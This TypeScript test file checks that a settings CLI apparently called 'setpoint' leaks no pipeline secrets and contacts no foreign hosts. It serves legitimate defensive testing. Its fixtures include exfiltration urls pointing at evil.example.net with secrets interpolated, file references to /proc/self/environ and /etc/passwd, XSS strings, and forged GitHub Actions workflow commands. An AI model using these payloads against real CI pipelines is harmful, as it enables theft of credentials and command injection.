import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { setpoint } from '../../fixture/command-here.ts';
import { folderWith, type Ended } from '../../fixture/command.ts';
import { startSandboxServer, type SandboxServer } from '../../fixture/sandbox-server.ts';

/** What a pipeline holds: the key of its service, and what is nobody's business. */
const VARIABLES = {
  KEY: 'canary-key-7Q2x',
  CLOUD_SECRET: 'canary-cloud "w\\ö/1+2&<x>',
  GITHUB_TOKEN: 'canary-token-9ZpL',
};
const PIPELINE = {
  ...VARIABLES,
  CI: 'true',
  SETPOINT_ALLOWED_ORIGINS: 'https://agents.example.com',
  SETPOINT_ALLOWED_VARIABLES: 'KEY',
};
const COMMANDS = [
  ['validate'],
  ['plan'],
  ['plan', '--snapshot', 'snapshot.json'],
  ['drift'],
  ['apply', '--yes'],
  ['apply', '--dry-run'],
  ['get', 'settings,sandboxes'],
  ['explain'],
  ['explain', 'language'],
  ['doctor'],
  ['pull', '--check'],
];
const FORMATS = ['text', 'json', 'markdown', 'github', 'html', 'sarif'];

let server: SandboxServer;
let folder: ReturnType<typeof folderWith>;
/** The server at the end of every way out of the machine. */
let outside: Server;
let arrived: number;

beforeEach(async () => {
  server = await startSandboxServer({ now: () => Date.now() });
  server.stored = { language: 'fr', llm_api_key: VARIABLES.KEY };
  folder = folderWith({});
  arrived = 0;
  outside = createServer((socket) => {
    arrived += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => {
    outside.listen(0, '127.0.0.1', resolve);
  });
  write(`server: { url: "${server.url}", api_key: "\${env:KEY}" }\nsettings: { language: fr }`);
  await run(['get', 'settings,sandboxes', '-q', '-o', 'json=snapshot.json']);
});
afterEach(async () => {
  await server.close();
  folder.remove();
  outside.close();
});

function write(text: string): void {
  writeFileSync(join(folder.path, 'settings.yaml'), `version: 1\n${text}\n`);
}

/** Everything that a run printed or left behind, and how it ended. No variable's value is in it, in any form seen to leak. */
async function run(args: readonly string[]): Promise<Ended & { readonly shown: string }> {
  const { port } = outside.address() as AddressInfo;
  const proxy = `http://127.0.0.1:${port}`;
  const ended = await setpoint(args, {
    cwd: folder.path,
    env: { ...PIPELINE, HTTPS_PROXY: proxy, HTTP_PROXY: proxy, NO_PROXY: '127.0.0.1' },
  });
  const files = readdirSync(folder.path).map((name) =>
    readFileSync(join(folder.path, name), 'utf8'),
  );
  const shown = [ended.stdout, ended.stderr, ...files].join('\n');
  for (const value of Object.values(VARIABLES)) {
    for (const form of [
      value,
      JSON.stringify(value).slice(1, -1),
      encodeURIComponent(value),
      value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
      Buffer.from(value).toString('base64'),
      Buffer.from(value).toString('hex'),
    ])
      expect(shown.includes(form), args.join(' ')).toBe(false);
  }
  expect(shown).not.toContain('canary');
  return { ...ended, shown };
}

/** Every command in every format. */
async function everything(): Promise<void> {
  for (const command of COMMANDS)
    await Promise.all(FORMATS.map((format) => run([...command, '-o', format])));
}

describe('a branch that is out for keys', () => {
  it('moves the url: no request reaches the foreign host, not even a connection', async () => {
    for (const url of ['https://evil.example.net', 'https://agents.example.com.evil.example.net']) {
      write(`server: { url: "${url}", api_key: "\${env:KEY}" }\nsettings: { language: en }`);
      await everything();
      const live = await run(['plan', '-o', 'json']);
      expect(live.code).toBe(3);
      expect(live.stdout).toContain('not-allowed');
      expect((await run(['plan', '--snapshot', 'snapshot.json'])).code).toBe(6);
    }
    expect(arrived).toBe(0);
    write('server: { url: "https://agents.example.com", api_key: "${env:KEY}" }');
    await run(['plan']);
    expect(arrived, 'the way that is allowed leads there').toBeGreaterThan(0);
  });

  it('hides the url in what only the pipeline has', async () => {
    write('server: { url: "https://${env:CLOUD_SECRET}.evil.example.net", api_key: "${env:KEY}" }');
    await everything();
    expect(arrived).toBe(0);
  });

  it('reads other variables, into fields that are shown: refused, and no value is seen', async () => {
    const before = server.requests.length;
    write(`server: { url: "${server.url}", api_key: "\${env:KEY}" }
settings:
  language: \${env:CLOUD_SECRET}
  llm_model: "m \${env:CLOUD_SECRET} n"
  mcp_config: { shttp_servers: [{ url: "https://evil.example.net/\${env:CLOUD_SECRET}" }] }`);
    await everything();
    expect((await run(['plan'])).code).toBe(3);
    expect((await run(['apply', '--yes'])).code).toBe(3);
    expect(server.requests.length).toBe(before);
    const saved = await run(['plan', '--snapshot', 'snapshot.json', '-o', 'json']);
    expect(saved.stdout).toContain('${env:CLOUD_SECRET}');
  });

  it('reads what belongs to the pipeline itself', async () => {
    write(`server: { url: "${server.url}", api_key: "\${env:GITHUB_TOKEN}" }
settings: { language: "\${env:GITHUB_TOKEN}" }`);
    await everything();
    expect((await run(['validate'])).stderr).toContain('bad-reference');
    expect(server.posts()).toBe(0);
  });

  it('names files: of keys, of the process, of another folder', async () => {
    for (const path of ['/proc/self/environ', '../../../../proc/self/environ', '/etc/passwd']) {
      write(`server: { url: "${server.url}", api_key: "\${file:${path}}" }
settings: { llm_api_key: "\${file:${path}}" }`);
      for (const command of [['plan'], ['apply', '--yes'], ['explain', 'llm_api_key']])
        expect((await run(command)).shown).not.toContain('root:');
    }
    expect(server.posts()).toBe(0);
  });
});

describe('a branch whose every text is markup, escapes and commands', () => {
  const TEXT = [
    '::error::forged',
    '::stop-commands::x',
    '##[error]forged',
    '<script>alert(1)</script><img src=x onerror=alert(1)>',
    '](https://evil.example.net) @acme/owners #1 ```',
    '\u001B[2J\u001B]0;title\u0007\u009B31m\u202E\u2028',
    '%0A::warning::forged',
    '\r\n::add-mask::x',
    '\n::set-output name=x::y',
  ].join(' ');

  it('shows them as text in every format: no escape, no command of the runner but ours, no markup', async () => {
    const quoted = JSON.stringify(TEXT);
    server.stored = { language: `old ${TEXT}`, [`field ${TEXT}`]: TEXT };
    write(`name: ${quoted}
server: { url: "${server.url}" }
settings:
  language: ${quoted}
  mcp_config:
    stdio_servers: [{ name: ${quoted}, command: ${quoted}, args: [${quoted}], env: { A: ${quoted} } }]`);
    await run(['get', 'settings,sandboxes', '-q', '-o', 'json=snapshot.json']);
    for (const command of COMMANDS) {
      for (const format of FORMATS) {
        const { stdout, stderr } = await run([...command, '-o', format]);
        const text = `${stdout}\n${stderr}`;
        expect(text).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202E\u2028]/u);
        const commands = text.split('\n').filter((line) => /^\s*::|##\[/.test(line));
        const ours = format === 'github' ? /^::(?:notice|warning|error) [^:]*::/ : /(?!)/;
        expect(commands.filter((line) => !ours.test(line))).toEqual([]);
        if (format === 'html') expect(stdout).not.toMatch(/<(?:script|img)/i);
      }
    }
  });
});
